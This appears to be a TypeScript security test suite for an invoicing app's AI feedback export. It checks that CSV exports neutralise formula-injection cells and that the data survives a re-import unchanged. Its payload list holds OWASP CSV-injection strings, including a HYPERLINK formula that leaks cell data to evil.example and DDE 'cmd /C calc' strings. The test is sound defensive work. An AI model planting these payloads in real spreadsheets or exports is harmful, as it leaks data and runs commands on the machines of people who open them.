// Attack class: CSV injection (OWASP). Feedback text is typed by users or written by the assistant;
// in a CSV export a cell starting with = + - @, tab or CR runs as a formula when the file is opened
// in a spreadsheet. Every such cell is neutralised (a leading apostrophe, quoted), JSON and JSONL keep
// the text as it is, and our own CSV re-imports losslessly.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { openDatabase, type Database } from '../../src-main/core/db/database';
import { exportFeedback, importFeedback, readFeedbackFile } from '../../src-main/core/feedback/feedback-export';
import { CSV_HEADER, csvLine, feedbackRecordSchema, recordFromCsv, type ChatRecord } from '../../src-main/core/feedback/feedback-record';
import { FeedbackService } from '../../src-main/core/feedback/feedback-service';
import { fuzzRuns, recordFuzz } from '../fuzz/fuzz-counter';
import { securityCase } from './security-case';

/** The OWASP payloads, plus text that already starts with an apostrophe (it must survive the round trip). */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Fattura")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "'",
  '=',
];
const TRIGGER = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?(e[-+]?\d+)?$/i;

let root: string;
const opened: Database[] = [];

function newDb(name: string): { d: Database; svc: FeedbackService } {
  const d = openDatabase(path.join(root, name, 'openfatture.db'));
  opened.push(d);
  return { d, svc: new FeedbackService(d.sqlite, () => ({ AI_FEEDBACK_ENABLED: true, ML_TOLERANCE_DAYS: 7 })) };
}

beforeAll(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'of-sec-csv-'));
});

afterAll(async () => {
  for (const d of opened) await d.close();
  fs.rmSync(root, { recursive: true, force: true });
});

describe('CSV injection', () => {
  securityCase('CSV export: formula payloads neutralised, JSONL unchanged, lossless re-import', async (check) => {
    const a = newDb('a');
    for (const p of PAYLOADS) {
      a.svc.recordChat({ agentType: 'chat', input: `${p} input`, response: `${p} response`, correction: `${p} correction`, comment: `${p} comment`, sessionId: `${p}s`, rating: 2 });
    }
    a.svc.recordPrediction({ model: 'cash_flow', prediction: { note: '=1+1', days: -3 }, actual: { days: 12 }, accurate: false });
    const csv = path.join(root, 'a', 'feedback.csv');
    exportFeedback(a.d.sqlite, { output: csv });
    const raw = fs.readFileSync(csv, 'utf8');
    const rows = parseCsv(raw, { columns: true }) as Record<string, string>[];
    let neutralised = 0;
    let cells = 0;
    for (const row of rows) {
      for (const field of CSV_HEADER) {
        const cell = row[field]!;
        if (cell === '') continue;
        cells++;
        // No cell a spreadsheet would evaluate: only plain numbers may start with "-".
        expect(TRIGGER.test(cell) && !NUMBER.test(cell), `${field}: ${JSON.stringify(cell)}`).toBe(false);
        if (cell.startsWith("'")) neutralised++;
      }
    }
    // Every neutralised cell is quoted in the file itself (the service stores text trimmed).
    for (const p of PAYLOADS) expect(raw).toContain(`"'${`${p} input`.trim().replace(/"/g, '""')}"`);
    expect(neutralised).toBe(PAYLOADS.length * 5);

    const jsonl = path.join(root, 'a', 'feedback.jsonl');
    exportFeedback(a.d.sqlite, { output: jsonl });
    const records = readFeedbackFile(jsonl).filter((r): r is ChatRecord => r.kind === 'chat');
    expect(records.map((r) => r.user_input)).toEqual(PAYLOADS.map((p) => `${p} input`.trim()));

    const b = newDb('b');
    expect(importFeedback(b.d.sqlite, csv)).toMatchObject({ chat: PAYLOADS.length, predictions: 1 });
    const again = path.join(root, 'b', 'again.jsonl');
    exportFeedback(b.d.sqlite, { output: again });
    expect(readFeedbackFile(again)).toEqual(readFeedbackFile(jsonl));
    check(
      `${PAYLOADS.length} OWASP payloads × 5 text fields: ${neutralised} of ${cells} non-empty cells neutralised with a quoted leading apostrophe, ` +
        `0 cells start with = + - @ tab CR (except plain numbers); JSONL keeps the text; CSV → import → JSONL identical to the original JSONL`,
    );
  });

  securityCase('CSV cells of any text (fast-check): never a formula, always read back as written', async (check) => {
    const text = fc.oneof(
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''", ' =', '"='), fc.string({ maxLength: 40 })).map(([a, b]) => a + b),
      fc.string({ unit: 'grapheme', maxLength: 40 }),
    );
    const runs = fuzzRuns(300);
    let cases = 0;
    fc.assert(
      fc.property(text, text, (input, comment) => {
        fc.pre(input.trim().length > 0);
        cases++;
        const rec: ChatRecord = {
          kind: 'chat', id: 1, created_at: '2025-03-01T10:00:00.000Z', agent_type: 'chat', session_id: null, message_id: null,
          user_input: input, ai_response: 'risposta', user_correction: null, rating: 3, thumb: null, comment: comment === '' ? null : comment, context: { note: comment }, consumed_by_version: null,
        };
        const line = csvLine(rec);
        const [row] = parseCsv(`${CSV_HEADER.join(',')}\n${line}\n`, { columns: true }) as Record<string, string>[];
        for (const cell of Object.values(row!)) expect(TRIGGER.test(cell) && !NUMBER.test(cell), JSON.stringify(cell)).toBe(false);
        const back = feedbackRecordSchema.parse(recordFromCsv(row!));
        expect(back).toEqual(rec);
      }),
      { numRuns: runs },
    );
    recordFuzz('csv cells', cases);
    check(`${cases} generated texts (half starting with = + - @ tab CR ' or ''): no CSV cell starts a formula, every record parses back identical`);
  });
});
